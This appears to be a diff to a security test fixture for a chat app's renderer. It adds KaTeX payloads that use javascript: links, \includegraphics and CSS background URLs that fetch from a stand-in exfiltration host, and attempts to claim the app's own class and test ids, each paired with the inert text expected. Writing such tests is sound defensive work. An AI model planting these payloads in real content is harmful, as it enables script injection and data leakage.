@@ -225,20 +225,47 @@ def _payloads() -> list[Payload]:
             f"[![md-image-in-link]({exfil('md-image-in-link')})](javascript:{run('md-image-in-link')})",
             ("\U0001f5bc md-image-in-link",),
         ),
-        # ---- math (KaTeX runs with trust off) ----
+        # ---- math (KaTeX runs with trust off; the commands trust gates show inert text) ----
         Payload(
             "katex-href",
             f"$\\href{{javascript:{run('katex-href')}}}{{katexhref}}$",
+            ("katexhref",),
         ),
         Payload(
             "katex-url-graphics",
             f"$\\url{{javascript:{run('katex-url-graphics')}}}$ "
             f"$\\includegraphics{{{exfil('katex-url-graphics')}}}$",
+            # KaTeX sets "'" in text as a typographic quote, as its own \url does.
+            ("javascript:xssCanary=", "katex-url-graphics", "[image]"),
         ),
         Payload(
             "katex-html",
             f"$\\htmlStyle{{background:url({exfil('katex-html')})}}{{katexstyle}}$ "
             f"$\\htmlData{{onclick={run('katex-html')}}}{{katexdata}}$",
+            ("katexstyle", "katexdata"),
+        ),
+        Payload(
+            "katex-href-exfil",
+            f"$\\href{{http://{EXFIL_HOST}/katex-href-exfil.png?q=a%20b#frag}}{{katexhrefexfil}}$ "
+            f"$$\\text{{read \\href{{javascript:{run('katex-href-exfil')}}}{{katex text mode}} "
+            "here}$$",
+            ("katexhrefexfil", "read katex text mode here"),
+        ),
+        Payload(
+            "katex-url-exfil",
+            f"$\\url{{http://{EXFIL_HOST}/katex-url-exfil.png?q=a%20b_c~d&e}}$",
+            (f"http://{EXFIL_HOST}/katex-url-exfil.png?q=a%20b_c~d&e",),
+        ),
+        Payload(
+            "katex-class-id",
+            # The app's own class and test id: a formula must not be able to claim them.
+            "$\\htmlClass{chat-shell}{katexclass}$ $\\htmlId{composer-input}{katexid}$",
+            ("katexclass", "katexid"),
+        ),
+        Payload(
+            "katex-graphics-alt",
+            f"$\\includegraphics[height=2em,alt=katex picture]{{{exfil('katex-graphics-alt')}}}$",
+            ("[image: katex picture]",),
         ),
         Payload(
             "katex-color",
@@ -276,6 +303,21 @@ SMALL: list[Payload] = [p for p in PAYLOADS if not p.big]
 BIG: list[Payload] = [p for p in PAYLOADS if p.big]
 # Rendered as plain text by the markdown error boundary; everything else renders as markdown.
 FALLS_BACK_TO_TEXT = {"nested-quotes-10k"}
+# KaTeX commands that its `trust` option gates (\\href, \\url, \\html*, \\includegraphics): they
+# must show their text with no link, no fetch and no red error. (katex-color is a plain invalid
+# colour: KaTeX shows that formula as a red error, which is correct.)
+KATEX_TRUST_GATED: list[Payload] = [
+    BY_NAME[name]
+    for name in (
+        "katex-href",
+        "katex-url-graphics",
+        "katex-html",
+        "katex-href-exfil",
+        "katex-url-exfil",
+        "katex-class-id",
+        "katex-graphics-alt",
+    )
+]
 
 
 def batches(payloads: list[Payload], size: int) -> list[list[Payload]]:
@@ -293,6 +335,7 @@ __all__ = [
     "CANARY",
     "EXFIL_HOST",
     "FALLS_BACK_TO_TEXT",
+    "KATEX_TRUST_GATED",
     "PAYLOADS",
     "SMALL",
     "Payload",
